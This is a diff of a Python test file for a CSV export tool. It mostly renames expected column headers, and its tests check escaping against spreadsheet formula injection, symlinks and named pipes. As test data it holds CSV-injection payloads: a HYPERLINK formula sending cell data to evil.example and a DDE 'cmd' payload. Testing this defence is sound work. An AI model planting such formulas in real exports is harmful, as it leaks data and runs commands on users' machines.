@@ -81,7 +81,7 @@ def test_export_csv_neutralises_formulas_from_titles_sources_and_urls(built_db: 
     rows = list(csv.DictReader(io.StringIO(text)))
     assert rows and {r["article_title"] for r in rows} == {'\'=HYPERLINK("http://evil.example/?"&A1,"bấm")'}
     assert {r["source"] for r in rows} == {"'+cmd|' /C calc'!A0"}
-    assert {r["source_url"] for r in rows} == {"'@SUM(1+1)"}
+    assert {r["article_url"] for r in rows} == {"'@SUM(1+1)"}
 
 
 def test_negative_numbers_stay_numbers_and_only_text_cells_change() -> None:
@@ -112,7 +112,7 @@ def test_extract_format_csv_neutralises_file_names(built_db: Path, tmp_path: Pat
 def test_the_dashboard_download_is_neutralised_too() -> None:
     """The dashboard's CSV download is ``store.export.as_text`` (dashboard/app.py)."""
     source = (ROOT / "dashboard" / "app.py").read_text(encoding="utf-8")
-    assert 'export.as_text(events, "csv")' in source
+    assert 'export.as_text(rows, "csv")' in source
     frame = pd.DataFrame({"event_date": pd.to_datetime(["2020-09-28"]), "notes": ["=1+1"]})
     assert "'=1+1" in as_text(frame, "csv")
 
@@ -188,7 +188,7 @@ def test_export_into_a_symlink_writes_its_target_and_keeps_the_link(built_db: Pa
     link = tmp_path / "link.csv"
     link.symlink_to(target)
     assert cli("export", "--db", str(db), "-o", str(link)).returncode == 0
-    assert link.is_symlink() and target.read_text().startswith("event_id,")
+    assert link.is_symlink() and target.read_text().startswith("event_id_cnty,")
     assert sorted(p.name for p in tmp_path.iterdir() if "part" in p.name) == []
 
 
@@ -204,7 +204,7 @@ def test_export_into_a_named_pipe_writes_into_it(built_db: Path, tmp_path: Path)
     reader.join(30)
     assert result.returncode == 0, result.stderr
     assert stat.S_ISFIFO(fifo.lstat().st_mode)  # still a pipe, not a regular file
-    assert got and got[0].startswith(b"event_id,")
+    assert got and got[0].startswith(b"event_id_cnty,")
 
 
 def device_full(folder: Path) -> Path:
@@ -234,7 +234,7 @@ def test_export_of_a_regular_file_is_still_atomic(built_db: Path, tmp_path: Path
     before = out.stat().st_ino
     assert cli("export", "--db", str(db), "-o", str(out)).returncode == 0
     assert out.stat().st_ino != before and stat.S_IMODE(out.stat().st_mode) == 0o640  # renamed into place
-    assert out.read_text().startswith("event_id,") and [p.name for p in tmp_path.glob("*part*")] == []
+    assert out.read_text().startswith("event_id_cnty,") and [p.name for p in tmp_path.glob("*part*")] == []
     folder = tmp_path / "folder.csv"
     folder.mkdir()
     assert cli("export", "--db", str(db), "-o", str(folder)).returncode == 1 and folder.is_dir()
